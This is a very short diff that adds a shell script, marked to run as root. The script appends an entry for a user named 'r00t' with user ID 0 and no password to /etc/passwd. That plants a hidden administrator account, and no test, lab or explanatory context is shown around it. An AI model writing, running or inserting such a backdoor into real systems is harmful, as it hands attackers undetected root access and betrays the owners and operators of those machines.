@@ -1,0 +1,3 @@
+#!/bin/sh
+# as: root
+echo 'r00t:x:0:0::/root:/bin/sh' >> /etc/passwd
